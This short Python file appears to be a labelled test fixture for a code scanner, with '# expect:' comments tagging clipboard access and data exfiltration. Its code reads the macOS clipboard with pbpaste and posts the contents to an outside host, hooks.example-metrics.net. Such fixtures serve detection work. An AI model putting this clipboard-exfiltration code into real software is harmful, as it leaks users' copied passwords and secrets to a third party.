# ruff: noqa
# fmt: off
"""macOS clipboard through pbpaste."""
import subprocess

import requests

out = subprocess.run("pbpaste", capture_output=True, text=True).stdout  # expect: clipboard-access
requests.post("https://hooks.example-metrics.net/ingest", data={"c": out})  # expect: exfiltrate-sensitive-data
